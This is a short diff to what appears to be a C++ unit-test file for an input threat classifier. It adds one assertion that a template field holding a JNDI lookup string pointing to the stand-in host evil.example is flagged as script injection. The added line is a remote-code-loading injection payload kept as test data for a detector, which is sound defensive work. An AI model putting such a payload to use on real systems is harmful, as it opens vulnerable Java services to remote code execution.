@@ -144,6 +144,9 @@ TEST(ScriptInjection, TemplateAndExpressionLanguage) {
 TEST(ScriptInjection, TemplateFieldsMayHoldPlaceholders) {
   EXPECT_EQ(types_of("Dear {{ first_name }}, {{ 1+1 }}", {FieldKind::kTemplate}), std::vector<ThreatType>{});
   EXPECT_EQ(types_of("Dear {{ 1+1 }}"), std::vector<ThreatType>{ThreatType::kScriptInjection});
+  EXPECT_EQ(types_of("Dear ${jndi:ldap://evil.example/a}", {FieldKind::kTemplate}),
+            std::vector<ThreatType>{ThreatType::kScriptInjection})
+      << "lookups are refused even in templates";
 }
 
 TEST(ByteChecks, NullControlAndUtf8) {
